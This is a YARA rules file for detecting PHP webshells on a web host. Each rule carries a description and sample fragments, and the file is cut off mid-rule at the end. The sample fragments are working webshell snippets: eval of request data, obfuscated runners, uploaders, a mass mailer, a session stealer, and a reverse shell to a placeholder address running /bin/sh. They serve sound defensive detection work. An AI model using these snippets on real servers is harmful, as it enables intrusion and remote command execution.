/*
    hostguard.hosting: webshell rules on the PHP view of a file.

    The PHP view is the file with comments and docblocks removed (newlines kept),
    double-quoted escapes decoded and constant pieces folded into the string they
    spell ('as'.'sert', chr(97).chr(115), strrev('lave'), str_rot13('riny'),
    base64_decode('ZXZhbA=='), str_replace('`','','a`s`s`e`r`t')), and every use of
    a variable that holds request data ($cmd = $_GET['c'], $c = isset($_POST['c'])
    ? $_POST['c'] : '', $post = json_decode(file_get_contents('php://input')))
    followed by the byte \x02, as is the first parameter of a function of the
    file, inside it, where the file calls it with request data. So a rule here
    never fires on prose in a comment, hiding a name in pieces does not hide it,
    and request data is followed through variables and functions.

    Every rule says in its meta what it catches and why (description), a
    fragment it matches (matches) and one it must not match (not_matches);
    the unit tests hold each rule to both.

    Cost: YARA searches every string for a short literal (its atom) and checks
    the whole expression only where that literal is. A variable's "$" is in
    almost every statement, so where a string has rarer text (a superglobal's
    name, the \x02 mark, a call's parenthesis after a variable) the "$" and,
    where needed, a parenthesis are written as one-character classes ([$], [(]),
    which match the same text but are never taken as the atom. A string whose
    alternatives have different rare parts is split into pieces named
    $name_1, $name_2, ...: the rule needs any piece, and a finding names the
    earliest line any piece matched, as the one string did.

    Shared pieces, spelled out in each rule (YARA has no macros):
      runner   eval, assert, system, exec, passthru, shell_exec, popen, proc_open,
               pcntl_exec (not a method: no "->" or "::" before it)
      request  $_GET, $_POST, $_REQUEST, $_COOKIE, $_FILES, $_SERVER['HTTP_...'],
               $HTTP_GET_VARS, $HTTP_POST_VARS, $HTTP_COOKIE_VARS (PHP 4's names),
               getenv('HTTP_...'), getallheaders(), apache_request_headers(),
               php://input, and a variable marked \x02 (it holds request data)
*/

rule eval_decoded
{
    meta:
        description = "eval/assert/system/include fed by a decoder (base64_decode, gzinflate, str_rot13, ...), in the same call or through a variable decompressed in the statement before: a payload hidden from readers"
        example_match = "<?php $w = base64_decode($info); $h = gzinflate($w); @eval('?>' . $h);"
        example_no_match = "<?php $data = base64_decode( $encoded ); $r = curl_exec( $ch ); $page = gzinflate( $body ); echo $page;"
    strings:
        $call = /([^\w$>:](eval|assert|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(|[^\w$>:'"](include|require)(_once)?\b)[^;]{0,200}(base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|convert_uudecode|hex2bin|pack\s*\(\s*['"]H\*['"]\s*,)\s*\(?/ nocase
        $inflated_then_run = /(gzinflate|gzuncompress|gzdecode|str_rot13|convert_uudecode)\s*\(\s*[$]\w+\s*\)\s*;\s*@?(eval|assert)\s*\(\s*(['"]\?>['"]\s*\.\s*)?@?[$]\w+\s*\)/ nocase
    condition:
        $call or $inflated_then_run
}

rule eval_request
{
    meta:
        description = "eval/assert/system/include fed by request data or a request header in the same call"
        example_match = "<?php @assert($_REQUEST['x']); system(getenv('HTTP_X_CMD')); passthru($HTTP_GET_VARS['c']);"
        example_no_match = "<?php echo esc_html( $_GET['page'] ); $o->exec($_POST['q']);"
    strings:
        $call = /([^\w$>:](eval|assert|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(|[^\w$>:'"](include|require)(_once)?\b)[^;]{0,200}(\$_(GET|POST|REQUEST|COOKIE|FILES)\b|\$HTTP_(GET|POST|COOKIE)_VARS\b|\$_SERVER\s*\[\s*['"]HTTP_|getenv\s*\(\s*['"]HTTP_|getallheaders\s*\(|apache_request_headers\s*\(|php:\/\/input)/ nocase
    condition:
        $call
}

rule request_callable
{
    meta:
        description = "a function whose name comes from the request, or a variable function called with request data: $_POST['f']($_POST['a']), $f($_POST['x']), new ReflectionFunction($_GET['f']), Closure::fromCallable($f)->__invoke($_POST['x'])"
        example_match = "<?php $k = $p; $k($_POST['ice']);"
        example_no_match = "<?php $value = sanitize_text_field( $_POST['name'] ); $cb( $value );"
    strings:
        $name_from_request = /\$_(GET|POST|REQUEST|COOKIE)\s*\[[^\]]{1,60}\]\s*\(/ nocase
        $tainted_callee = /(^|[^\w>:])[$]\w+\x02\s*(\[[^\]]{1,40}\]\s*)?\(/
        $variable_call_1 = /(^|[^\w>:])[$]\w+\x02?\s*(\[[^\]]{1,40}\]\s*){0,3}\(\s*@?\$_(GET|POST|REQUEST|COOKIE)\b/ nocase
        $variable_call_2 = /(^|[^\w>:])[$]\w+\x02?\s*(\[[^\]]{1,40}\]\s*){0,3}\(\s*@?(\$_SERVER\s*\[\s*['"]HTTP_|getenv\s*\(\s*['"]HTTP_|getallheaders\s*\(|file_get_contents\s*\(\s*['"]php:\/\/input)/ nocase
        $variable_call_3 = /(^|[^\w>:])[$]\w+\x02?\s*(\[[^\]]{1,40}\]\s*){0,3}[(]\s*@?[$]\w+\x02/
        $string_call = /['"]\s*\)\s*\(\s*@?\$_(GET|POST|REQUEST|COOKIE)/ nocase
        $result_call_1 = /\w\s*\([^();]{0,80}\)\s*\(\s*@?\$_(GET|POST|REQUEST|COOKIE)\b/ nocase
        $result_call_2 = /\w\s*[(][^();]{0,80}[)]\s*[(]\s*@?[$]\w+\x02/
        $reflection = /new\s+ReflectionFunction\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\b|[$]\w+\x02)/ nocase
        $from_callable_1 = /Closure::fromCallable\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\b|[$]\w+\x02)/ nocase
        $from_callable_2 = /Closure::fromCallable\s*\([^;]{0,80}\)\s*->\s*(__invoke|call)\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\b|[$]\w+\x02)/ nocase
    condition:
        any of them
}

rule request_through_variable
{
    meta:
        description = "a runner called with request data that went through a variable or a function parameter: $cmd = $_REQUEST['cmd']; system($cmd); (after extract() of the request: the rule of this name in php_content_gated.yar)"
        example_match = "<?php $cmd = $_REQUEST['cmd']; echo '<pre>'; system($cmd);"
        example_no_match = "<?php $id = $_GET['id']; $out = shell_exec($command); $stmt = $db->exec($id);"
    strings:
        $tainted = /[^\w$>:](eval|assert|system|passthru|shell_exec|exec|popen|proc_open|pcntl_exec)\s*\([^;]{0,200}\$\w+\x02/ nocase
        // a function with a parameter whose body runs a variable within 200 bytes of its opening brace, in two
        // strings joined at that brace: one regex from "function" to the runner tried every function of a file.
        // "\w+([^)\w][^)]{0,79})?" is "\w+[^)]{0,80}" written so that one path matches: the regex engine follows
        // every way a word character could be split between the two
        $function_open = /function\s+\w+\s*\(\s*\$\w+([^)\w][^)]{0,79})?\)\s*\{/ nocase
        $body_runner = /\{[^}]{0,200}[^\w$>:](eval|assert|system|passthru|shell_exec|exec|popen|proc_open)\s*\(\s*@?\$\w+/ nocase
        $request = /\$_(GET|POST|REQUEST|COOKIE)\s*\[/ nocase
    condition:
        $tainted
        or ($request and for any i in (1..#body_runner) : (
            for any j in (1..#function_open) : (@function_open[j] + !function_open[j] - 1 == @body_runner[i])))
}

rule hidden_runner_name
{
    meta:
        description = "the name of a runner (assert, eval, system, ...) assembled from pieces, decoded or reversed, or picked character by character out of a string ($s[4].$s[21].$s[0].$s[11]), then kept in a variable or called: the oldest way to hide a backdoor from a grep (a name assigned or picked, then a variable called: the rule of this name in php_content_gated.yar)"
        example_match = "<?php (base64_decode('c3lzdGVt'))($x);"
        example_no_match = "<?php $key = 'wp_' . 'nonce'; $s = 'ev' . 'ent'; if ( function_exists( 'system' ) ) {}"
    strings:
        $called = /\(\s*['"](assert|eval|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|create_function|base64_decode|file_get_contents|gzinflate)['"]\s*\)\s*\(/ nocase
        $underscore_call = /(^|[^\w>:])\$_{1,9}\s*\(\s*@?(\$_{1,9}\s*[\[)]|[a-z_]\w*\s*\()/ nocase
        $numeric_calls = /([$]\w+\s*\(\s*\d{1,3}\s*\)\s*\.\s*){4}/
    condition:
        $called or $underscore_call or $numeric_calls
}

rule runner_as_callback
{
    meta:
        description = "assert, eval or a command runner handed as a callback (call_user_func, array_map, array_udiff_assoc, register_shutdown_function, ob_start, ...), a callback named by the request or a decoder, or request data compared by array_intersect_uassoc and its kin through a callback held in a variable: it runs data without a visible call"
        example_match = "<?php array_udiff_assoc(array($_REQUEST['p'] => 1), array(1), 'assert');"
        example_no_match = "<?php array_map( 'esc_attr', $classes ); call_user_func( 'wp_die', $msg );"
    strings:
        $callback = /(call_user_func|call_user_func_array|array_map|array_filter|array_walk|array_walk_recursive|array_reduce|usort|uasort|uksort|array_udiff\w*|array_diff_u\w*|array_uintersect\w*|array_intersect_u\w*|register_shutdown_function|register_tick_function|ob_start|preg_replace_callback|iterator_apply|forward_static_call|forward_static_call_array|set_error_handler|set_exception_handler|header_register_callback|mb_ereg_replace_callback|ReflectionFunction)\s*\(([^;]{0,300}[,(])?\s*['"]?(assert|eval|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|create_function)['"]?\s*[,)]/ nocase
        $ob_eval = /ob_start\s*\([^;]{0,200}\b(assert|eval|system|passthru|shell_exec|exec)\s*\(/ nocase
        $over_request = /(array_map|array_walk|array_filter)\s*\(\s*\$\w+\s*,[^;]{0,40}(\$_(GET|POST|REQUEST|COOKIE)\b|\$\w+\x02)/ nocase
        $pieced_callback = /(call_user_func|call_user_func_array|array_map|array_filter|array_walk|usort|uasort|uksort|array_u(diff|intersect)\w*|array_(diff|intersect)_u\w+|register_shutdown_function)\s*\([^;{]{0,200}[(,]\s*\$\w+(\[[^\]]{1,10}\])?(\s*\.\s*\$\w+(\[[^\]]{1,10}\])?){1,4}\s*\)/ nocase
        $ob_capture = /ob_start\s*\(\s*function/ nocase
        $request_callback = /(array_diff_u\w+|array_intersect_u\w+|array_udiff\w*|array_uintersect\w*)\s*\([^;]{0,300},\s*@?(\(string\)\s*)?(\$\w+\x02|\$_(GET|POST|REQUEST|COOKIE)\s*\[[^\]]{1,40}\])\s*\)/ nocase
        $request_compared = /(array_diff_u\w+|array_intersect_u\w+|array_udiff\w*|array_uintersect\w*)\s*\(\s*@?array\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\s*\[|[$]\w+\x02)[^;]{0,300},\s*@?[$]\w+\x02?(\s*\.\s*(['"][^'"\n]{0,20}['"]|[$]\w+\x02?))*\s*\)\s*;/ nocase
        $eval_var = /[^\w$>:](eval|assert)\s*\(\s*@?\$\w+\s*\)/ nocase
        $request = /\$_(GET|POST|REQUEST|COOKIE)\s*\[/ nocase
        $first_dynamic = /(call_user_func|call_user_func_array|array_map|register_shutdown_function|register_tick_function|ob_start|forward_static_call|forward_static_call_array|iterator_apply)\s*\(\s*@?(\$\w+\x02|\$_(GET|POST|REQUEST|COOKIE)\b|(base64_decode|str_rot13|strrev|gzinflate|hex2bin)\s*\()/ nocase
        $second_dynamic = /(array_filter|array_walk|array_walk_recursive|array_reduce|usort|uasort|uksort|preg_replace_callback)\s*\(\s*[^,;]{1,80},\s*@?(\$\w+\x02|\$_(GET|POST|REQUEST|COOKIE)\b|(base64_decode|str_rot13|strrev|gzinflate|hex2bin)\s*\()/ nocase
    condition:
        $callback or $ob_eval or $first_dynamic or $second_dynamic or $over_request or $pieced_callback or $request_callback
        or $request_compared
        or ($ob_capture and $eval_var and $request)
}

rule string_xor
{
    meta:
        description = "two string literals XORed together (or with chr()): a name or payload that appears in neither literal"
        example_match = "<?php $f = ('$#;[' ^ 'EPHI'); $f($_GET[1]);"
        example_no_match = "<?php $mask = $a ^ $b; $x = 0x0f ^ $flags;"
    strings:
        $xor = /[=(.]\s*['"][^'"\n ]{1,80}['"]\s*\^\s*(['"][^'"\n ]{1,80}['"]|chr\s*\()/
    condition:
        $xor
}

rule encrypted_payload_runner
{
    meta:
        description = "a request body decrypted with a key (XOR with a cycling key, openssl_decrypt) and evaluated, or decoded request data stashed in the session for a later eval: Godzilla, Behinder and their kin"
        example_match = "<?php $d = file_get_contents('php://input'); for($i=0;$i<strlen($d);$i++){$d[$i]=$d[$i]^$k[$i+1&15];} eval($d);"
        example_no_match = "<?php $plain = openssl_decrypt( $cipher, 'aes-256-cbc', $key, 0, $iv ); return $plain;"
    strings:
        $eval_concat = /[^\w$>:](eval|assert)\s*\(\s*\$\w+\s*\.\s*(""|'')\s*\)/ nocase
        $xor_key = /\$\w+\s*\[\s*\(?\s*\$\w+\s*\+\s*1\s*\)?\s*&\s*(15|31|0x0?f|0x1f)\s*\]/
        $decrypt = /openssl_decrypt\s*\(/ nocase
        $eval_var = /[^\w$>:](eval|assert)\s*\(\s*@?\$\w+/ nocase
        $session = /\$_SESSION\s*\[/
        $request = /\$_(POST|REQUEST|GET|COOKIE)\s*\[|php:\/\/input/ nocase
        $stash = /\$_SESSION\s*\[[^\]]{1,40}\]\s*=\s*@?(base64_decode|gzinflate|str_rot13|gzuncompress|hex2bin)\s*\(\s*\$_(COOKIE|POST|GET|REQUEST|SERVER)\b/ nocase
    condition:
        $eval_concat or $stash or (($xor_key or $decrypt) and $eval_var and ($request or $session))
}

rule preg_replace_eval
{
    meta:
        description = "preg_replace with the /e modifier (also at the end of a pattern joined from pieces: '/' . $p . '/e') or mb_ereg_replace with the e option, which evaluate the replacement as PHP"
        example_match = "<?php preg_replace(\"/.*/e\", $_POST['c'], '');"
        example_no_match = "<?php return preg_replace( '/[^a-z0-9_\\-]/', '', $key );"
    strings:
        $e = /preg_replace\s*\(\s*['"][^'"]{0,400}[\/#|~!@%{}][a-df-z]*e[a-z]*['"]\s*,/ nocase
        $mb_e = /mb_e?regi?_replace\s*\([^;]{0,300},\s*['"][a-df-z]*e[a-z]*['"]\s*\)/ nocase
        $joined_e = /preg_replace\s*\([^;,]{0,300}\.\s*['"][\/#|~!@%{}][a-df-z]*e[a-z]*['"]\s*,/ nocase
    condition:
        $e or $mb_e or $joined_e
}

rule create_function_code
{
    meta:
        description = "create_function (an eval in disguise, removed in PHP 8) with code that is not a plain literal (the arguments given as a string or null), or a variable function that makes a function out of code in the same way and is called on the spot: $g['c']($g['e'](null, $code))"
        example_match = "<?php call_user_func(create_function(null, $code));"
        example_no_match = "<?php $cmp = create_function('$a,$b', 'return $a - $b;');"
    strings:
        $dynamic = /create_function\s*\(\s*(['"][^'"]*['"]|null)\s*,\s*[^'"\s]/ nocase
        $through_variables = /(^|[^\w>:])[$]\w+(\[[^\]]{1,40}\])*\s*\(\s*@?[$]\w+(\[[^\]]{1,40}\])*\s*\(\s*(null|''|"")\s*,\s*[^'"\s)]/ nocase
    condition:
        $dynamic or $through_variables
}

rule include_non_php_file
{
    meta:
        description = "include/require of an image, icon or text file: PHP hidden in a file nobody reads as code (favicon_1a3f84.ico)"
        example_match = "<?php @include \"\\x2fh\\x6fme/u/www/favicon_1a3f84.ico\";"
        example_no_match = "<?php include __DIR__ . '/templates/header.php';"
    strings:
        $include = /[^\w$>:](include|require|include_once|require_once)\s*\(?\s*['"][^'"\n]{0,300}\.(ico|jpe?g|gif|png|bmp|webp|svg|txt|log|dat|tmp|bak|zip|css|js)['"]/ nocase
    condition:
        $include
}

rule reverse_shell
{
    meta:
        description = "a socket to a fixed address handed to a shell (a reverse shell back to the attacker), a listening socket handed to a shell (a bind shell), or commands read from a socket and run"
        example_match = "<?php $s=fsockopen(\"203.0.113.9\",4444);$p=proc_open('/bin/sh -i',array(0=>$s,1=>$s,2=>$s),$pipes);"
        example_no_match = "<?php $fp = fsockopen( $host, 80, $errno, $errstr, 5 ); fwrite( $fp, $request );"
    strings:
        $socket = /(fsockopen|pfsockopen|stream_socket_client|socket_connect)\s*\(\s*['"]?(tcp:\/\/|udp:\/\/)?[\w.\-:]+['"]?\s*,\s*\d{2,5}/ nocase
        $socket_var = /(fsockopen|pfsockopen|stream_socket_client|socket_connect|socket_create)\s*\(/ nocase
        $shell = /['"][^'"\n]{0,80}(\/bin\/(ba)?sh\b|\bsh -i\b|\bbash -i\b|cmd\.exe)/ nocase
        $runner = /[^\w$>:](proc_open|popen|shell_exec|system|exec|passthru)\s*\(/ nocase
        $listen = /(stream_socket_server|socket_bind|socket_listen)\s*\(/ nocase
        $read_and_run = /[$]\w+\s*=\s*@?(trim\s*\(\s*)?(fgets|fread|socket_read|stream_get_line)\s*\(\s*[$]\w+[^;]{0,60};[^\x00]{0,400}([^\w$>:](shell_exec|system|passthru|exec|popen|proc_open)\s*\(\s*[$]\w+|`[$]\w+`)/ nocase
    condition:
        ($socket and $runner) or (($socket_var or $listen) and $runner and $shell) or ($socket_var and $read_and_run)
}

rule request_file_writer
{
    meta:
        description = "an uploader: an upload saved under the name the client chose or as a .php file, or a file written where the request says"
        example_match = "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"
        example_no_match = "<?php move_uploaded_file( $file['tmp_name'], $dir . '/' . wp_unique_filename( $dir, $name ) );"
    strings:
        $client_name = /[^\w$>:](move_uploaded_file|copy)\s*\(\s*\$_FILES\s*\[[^\]]{1,40}\]\s*\[\s*['"]tmp_name['"]\s*\]\s*,[^;]{0,120}\$_FILES\s*\[[^\]]{1,40}\]\s*\[\s*['"]name['"]\s*\]\s*\)/ nocase
        $request_path = /(file_put_contents|fopen)\s*\(\s*@?(\$_(GET|POST|REQUEST|COOKIE)\s*\[|\$_SERVER\s*\[\s*['"]HTTP_|getenv\s*\(\s*['"]HTTP_|[$]\w+\x02)/ nocase
        $request_url = /(file_put_contents|fwrite)\s*\([^;]{0,120}file_get_contents\s*\(\s*\$_(GET|POST|REQUEST)\s*\[/ nocase
        $php_destination = /[^\w$>:](move_uploaded_file|copy)\s*\([^;]{0,150},\s*['"][^'"\n]{0,100}\.(php[3-8]?|phtml|pht|phar)['"]\s*\)/ nocase
        $request_destination = /[^\w$>:](move_uploaded_file|copy)\s*\([^;]{0,150},\s*(\$_(POST|GET|REQUEST)\b|\$\w+\x02)/ nocase
    condition:
        any of them
}

rule mass_mailer
{
    meta:
        description = "mail() with recipients from the request, or a loop over a recipient list taken from the request: a spam script"
        example_match = "<?php $list = explode(\"\\n\", $_POST['emails']); foreach ($list as $to) { mail($to, $_POST['subject'], $_POST['body']); }"
        example_no_match = "<?php wp_mail( $admin, 'Contact', sanitize_textarea_field( $_POST['message'] ) );"
    strings:
        $mail_request = /[^\w$>:]mail\s*\(\s*(stripslashes\s*\(\s*)?\$_(GET|POST|REQUEST)\b/ nocase
        $mail = /[^\w$>:]mail\s*\(\s*\$\w+/ nocase
        $list = /(explode|preg_split|split)\s*\([^;]{0,40},\s*(trim\s*\(\s*)?\$_(GET|POST|REQUEST)\s*\[/ nocase
        $loop = /(foreach|for|while)\s*\(/ nocase
        $textarea = /<textarea[^>]{0,200}>/ nocase
    condition:
        $mail_request or ($mail and $loop and ($list or $textarea))
}

rule password_protected_shell
{
    meta:
        description = "access guarded by comparing a hash (md5, sha1, crypt) of input with a hard-coded one: a password-protected shell (a hash of request data alone is no tell)"
        example_match = "<?php if (md5($_POST['pass']) == '5f4dcc3b5aa765d61d8327deb882cf99') { eval($_POST['c']); }"
        example_no_match = "<?php $key = md5( $_POST['email'] . $salt ); update_option( 'k', $key );"
    strings:
        $compare = /(md5|sha1|crypt)\s*\([^;]{0,120}\)\s*[!=]==?\s*['"]([0-9a-f]{32}|[0-9a-f]{40}|[\w.\/$]{13})['"]/ nocase
        $reverse = /['"]([0-9a-f]{32}|[0-9a-f]{40})['"]\s*[!=]==?\s*(md5|sha1)\s*\(/ nocase
        $request = /\$_(GET|POST|REQUEST|COOKIE|SERVER)\s*\[/ nocase
    condition:
        ($compare or $reverse) and $request
}

rule backtick_request
{
    meta:
        description = "a shell command in backticks built from request data (comments are out of the view, so Markdown code spans are no match)"
        example_match = "<?php echo `ls -la {$_GET['d']}`;"
        example_no_match = "<?php echo '`$_POST` holds the form fields';"
    strings:
        $backtick = /`[^`\n'"]{0,200}(\$_(GET|POST|REQUEST|COOKIE)\b|\$_SERVER\s*\[\s*['"]HTTP_|\$\w+\x02)[^`\n]{0,200}`\s*[;).,?]/ nocase
    condition:
        $backtick
}

rule packed_payload_runner
{
    meta:
        description = "a long encoded blob evaluated through a decoder function of the file's own (base64_decode, gzinflate, ... inside it): a packed shell (a blob decoded in a file that also runs code: the rule of this name in php_content_gated.yar)"
        example_match = "<?php function d($s) { return base64_decode($s); } eval(d('SGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQg'));"
        example_no_match = "<?php function d($s) { return base64_decode($s); } echo d('SGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQgSGVsbG8gd29ybGQg');"
    strings:
        $own_decoder_eval = /[^\w$>:](eval|assert)\s*\(\s*@?[a-z_]\w*\s*\(\s*['"][A-Za-z0-9+\/=\\\s]{200}/ nocase
        $decoder_function = /\{\s*(\$\w+\s*=\s*|return\s+)?@?((base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|convert_uudecode|strrev)\s*\(\s*){1,3}[$]\w+/ nocase
    condition:
        $own_decoder_eval and $decoder_function
}

rule web_command_form
{
    meta:
        description = "an HTML form in the same file as a shell command run from a variable: a command page (older shells take the variable straight from the form through register_globals)"
        example_match = "<form method=post><input name=cmd></form><?php system($cmd); ?>"
        example_no_match = "<form method=post><input name=q></form><?php exec('git rev-parse HEAD', $out); ?>"
    strings:
        $form = /<(form|input|textarea)\b/ nocase
        $runner = /[^\w$>:](system|passthru|shell_exec|exec|popen|proc_open)\s*\(\s*(@?\$\w+|"[^"\n]{0,80}\$\w+)/ nocase
    condition:
        $form and $runner
}

rule upload_page
{
    meta:
        description = "a page that shows its own upload form and saves the upload under the name the client sent: an uploader dropped to plant more files"
        example_match = "<form enctype=\"multipart/form-data\" method=post><input type=file name=f></form><?php move_uploaded_file($_FILES['f']['tmp_name'], $dir.$_FILES['f']['name']);"
        example_no_match = "<?php move_uploaded_file( $file['tmp_name'], $new_file );"
    strings:
        $form = "multipart/form-data" nocase
        $save_as_named = /[^\w$>:](move_uploaded_file|copy)\s*\(\s*\$[^;]{0,150}(\$\w+_name\b|\[\s*['"]name['"]\s*\])/ nocase
    condition:
        $form and $save_as_named
}

rule superglobal_by_name
{
    meta:
        description = "request data read through a variable variable (${'_POST'}, ${'_P'.'OST'}, $$name with name '_POST'): only code that hides where its input comes from writes that"
        example_match = "<?php @$f(${'_PO'.'ST'}[0]);"
        example_no_match = "<?php $fields = $_POST['fields']; $name = ${'prefix'};"
    strings:
        $by_name = /\$\s*\{\s*['"]_(GET|POST|REQUEST|COOKIE|SERVER|FILES)['"]\s*\}/ nocase
        $name = /['"]_(GET|POST|REQUEST|COOKIE)['"]/
        $variable_variable = /\$\$\w+/
    condition:
        $by_name or ($name and $variable_variable)
}

rule many_piece_code
{
    meta:
        description = "code assembled from pieces and evaluated: eval($a.$b), eval($f($x)), or eval() of a function's result in a file that reads the request (many short variables joined and evaluated: the rule of this name in php_content_gated.yar)"
        example_match = "<?php $a = strrev($a); @assert($a . $b);"
        example_no_match = "<?php $url = $scheme . $host . $port . $path; wp_redirect( $url );"
    strings:
        $eval_concat = /[^\w$>:](eval|assert)\s*\(\s*@?\$\w+\s*\.\s*\$\w+\s*\)/ nocase
        $eval_call = /[^\w$>:]eval\s*\(\s*@?[a-z_]\w*\s*\(/ nocase
        $eval_variable_call = /[^\w$>:](eval|assert)\s*\(\s*@?\$\w+\s*\(/ nocase
        $request = /\$_(GET|POST|REQUEST|COOKIE)\s*\[/ nocase
    condition:
        $eval_concat or $eval_variable_call
        or ($eval_call and $request and not eval_decoded and not eval_request)
}

rule request_path_access
{
    meta:
        description = "a directory listed, or a file read, removed or shown, at a path the request names (or read through compress.zlib:// to get around safe_mode): the file manager of a shell"
        example_match = "<?php $dir = $_GET['d']; $h = opendir($dir); while ($f = readdir($h)) echo $f;"
        example_no_match = "<?php $page = $_GET['page']; $h = opendir( WP_PLUGIN_DIR );"
    strings:
        $access = /[^\w$>:](opendir|scandir|readfile|unlink|rmdir|highlight_file|show_source|file|fopen|file_get_contents)\s*\(\s*@?(\$\w+\x02|\$_(GET|POST|REQUEST|COOKIE)\s*\[)/ nocase
        $zlib_bypass = /[^\w$>:](copy|fopen|file_get_contents|readfile|include|require)\s*\(\s*['"]compress\.zlib:\/\/['"]\s*\.\s*\$\w+/ nocase
    condition:
        $access or $zlib_bypass
}

rule encoded_code
{
    meta:
        description = "code that runs things or reads the request, written in base64 or hex (eval(, assert(, system(, $_POST[ ...), or the name of a runner or a file writer written in hex as a string of its own ('66696c655f7075745f636f6e74656e7473' is file_put_contents): only a packed payload carries its own code encoded"
        example_match = "<?php $p = 'QGV2YWwoJF9QT1NUWyd4J10pOw=='; $t = '61737365727428245f504f53545b635d293b';"
        example_no_match = "<?php $icon = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAGElEQVR42mNk'; $h = 'deadbeef00112233';"
    strings:
        $b64_eval = "eval(" base64
        $b64_assert = "assert(" base64
        $b64_system = "system(" base64
        $b64_shell_exec = "shell_exec(" base64
        $b64_passthru = "passthru(" base64
        $b64_post = "$_POST[" base64
        $b64_get = "$_GET[" base64
        $b64_request = "$_REQUEST[" base64
        $b64_cookie = "$_COOKIE[" base64
        $hex = /6576616c28|61737365727428|73797374656d28|7061737374687275|245f504f5354|245f4745545b|245f52455155455354|245f434f4f4b4945/ nocase
        $hex_name = /['"](6576616c|617373657274|73797374656d|65786563|7368656c6c5f65786563|706f70656e|70726f635f6f70656e|6372656174655f66756e6374696f6e|63616c6c5f757365725f66756e63|6261736536345f6465636f6465|677a696e666c617465|66696c655f7075745f636f6e74656e7473|6d6f76655f75706c6f616465645f66696c65)['"]/ nocase
    condition:
        any of them
}

rule self_deleting_runner
{
    meta:
        description = "a script that deletes itself, keeps running after the client leaves and runs code: a memory-resident shell"
        example_match = "<?php unlink($_SERVER['SCRIPT_FILENAME']); ignore_user_abort(true); while (1) { @eval(file_get_contents($u)); sleep(5); }"
        example_no_match = "<?php if ( $done ) { unlink( __FILE__ ); } echo 'Setup finished';"
    strings:
        $unlink_self = /unlink\s*\(\s*(__FILE__|\$_SERVER\s*\[\s*['"]SCRIPT_FILENAME['"]\s*\])\s*\)/ nocase
        $keep_running = /ignore_user_abort\s*\(\s*(true|1)?\s*\)/ nocase
        $runner = /[^\w$>:](eval|assert|system|exec|passthru|shell_exec|popen|proc_open|file_put_contents)\s*\(/ nocase
    condition:
        $unlink_self and $keep_running and $runner
}

rule xslt_php_runner
{
    meta:
        description = "an XSL stylesheet that calls assert, eval or a command runner through registerPHPFunctions: code run from XML"
        example_match = "<?php $xsl = '<xsl:value-of select=\"php:function(\\'assert\\',string(.))\"/>'; $p->registerPHPFunctions();"
        example_no_match = "<?php $p = new XSLTProcessor(); $p->registerPHPFunctions( array( 'strtoupper' ) );"
    strings:
        $call = /:function(String)?\s*\(\s*\\?['"](assert|eval|system|exec|passthru|shell_exec|popen|proc_open|create_function)\\?['"]/ nocase
        $register = "registerPHPFunctions" nocase
    condition:
        $call and $register
}

rule shell_pipe_runner
{
    meta:
        description = "a command piped into a shell (exec('echo ... | /bin/sh')): what runs is what is fed to the shell, which a reader of the call never sees; programs run commands directly"
        example_match = "<?php exec('echo \"./' . basename($file) . '\" | /bin/sh', $output, $status);"
        example_no_match = "<?php exec('ls -1 ' . escapeshellarg($dir) . ' | sha256sum', $output); $sh = 'sh';"
    strings:
        $pipe = /[^\w$>:](exec|system|passthru|shell_exec|popen|proc_open)\s*\([^;]{0,200}\|\s*(\/usr)?(\/bin\/)?(ba|da|z)?sh\b\s*(-s\b|-i\b)?\s*['"]/ nocase
    condition:
        $pipe
}

rule windows_com_shell
{
    meta:
        description = "a Windows shell through COM (new COM('WScript.Shell') or 'Shell.Application', which run any command), or an IIS account dumper (new COM('IIS://localhost/w3svc') reading the sites' AnonymousUserPass): PHP web code never needs either"
        example_match = "<?php $ws = new COM('WScript.Shell'); $out = $ws->exec('cmd /c ' . $c)->StdOut->ReadAll();"
        example_no_match = "<?php $word = new COM('Word.Application'); $doc = $word->Documents->Open($path);"
    strings:
        $shell = /new\s+COM\s*\(\s*['"](WScript\.Shell|Shell\.Application)['"]/ nocase
        $iis = /new\s+COM\s*\(\s*['"]IIS:\/\// nocase
        $anonymous_password = "AnonymousUserPass" nocase
    condition:
        $shell or ($iis and $anonymous_password)
}

rule session_file_reader
{
    meta:
        description = "a script that lists the shared session directory (/tmp, /var/lib/php/sessions), picks the sess_* files in it and reads them: a session stealer that takes other sites' logged-in sessions on a shared host"
        example_match = "<?php $d = opendir('/tmp'); while ($f = readdir($d)) { if (strpos($f, 'sess_') === 0) { echo file_get_contents('/tmp/' . $f); } }"
        example_no_match = "<?php session_save_path('/var/lib/php/sessions'); $id = 'sess_' . session_id(); $d = opendir($cache_dir);"
    strings:
        $list = /(opendir|scandir|glob)\s*\(\s*@?['"](\/tmp|\/var\/tmp|\/var\/lib\/php\d*\/sessions?)\/?(\*|sess_\*)?['"]/ nocase
        $session_file = /['"](\/tmp\/|\/var\/lib\/php\d*\/sessions?\/)?sess_/
        $read = /[^\w$>:](file_get_contents|fopen|file|readfile|fgets|fread)\s*\(/ nocase
    condition:
        $list and $session_file and $read
}

rule gated_rules_wanted : gate
{
    meta:
